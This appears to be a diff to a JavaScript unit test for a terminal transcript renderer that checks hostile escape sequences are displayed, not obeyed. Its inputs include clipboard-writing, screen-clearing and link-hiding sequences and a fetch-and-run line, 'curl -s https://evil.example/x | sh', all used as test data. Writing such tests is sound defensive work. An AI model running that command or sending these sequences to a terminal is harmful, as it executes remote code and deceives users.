@@ -59,25 +59,23 @@ describe('Transcript', () => {
 });
 
 describe('what reaches the terminal', () => {
-  it('keeps colour and drops every other control sequence a model, tool or server could send', () => {
+  it('keeps colour and shows every other control character instead of obeying it', () => {
     const transcript = new Transcript();
     const hostile = [
       '\x1b[2J\x1b[H', // clear the screen, cursor home
       '\x1b]52;c;ZXZpbA==\x07', // write the clipboard
-      '\x1b]0;fake title\x1b\\', // set the window title
       '\x1b]8;;https://evil.test\x07click\x1b]8;;\x07', // a hyperlink whose text hides its target
       '\x1bP+q544e\x1b\\', // a device control string
-      '\x1b[6n', // ask the terminal to type its cursor position
-      '\x9b31m', // an 8-bit CSI
-      '\x1b7\x1bc', // save cursor, full reset
+      '\x9b6n', // an 8-bit CSI: ask the terminal to type its cursor position
     ].join('');
     transcript.append(`before ${hostile} \x1b[31mred\x1b[0m after\n`);
     const [line] = transcript.render(200);
-    expect(line).toBe('before click31m \x1b[31mred\x1b[0m after');
-    // A sequence cut across two writes leaves only harmless text.
-    const split = new Transcript();
-    split.append('a\x1b[');
-    split.append('2Jb\n');
-    expect(split.render(80)).toEqual(['a2Jb']);
+    expect(line).toBe('before ␛[2J␛[H␛]52;c;ZXZpbA==␇␛]8;;https://evil.test␇click␛]8;;␇␛P+q544e␛\\⟨9b⟩6n \x1b[31mred\x1b[0m after');
+    // The only escape left is the colour.
+    expect(line.replace(/\x1b\[[0-9;]*m/g, '')).not.toContain('\x1b');
+    // Nothing a sequence wraps is lost: an unterminated one hides no text after it.
+    const open = new Transcript();
+    open.append('npm test\x1b_; curl -s https://evil.example/x | sh\n');
+    expect(open.render(80)).toEqual(['npm test␛_; curl -s https://evil.example/x | sh']);
   });
 });
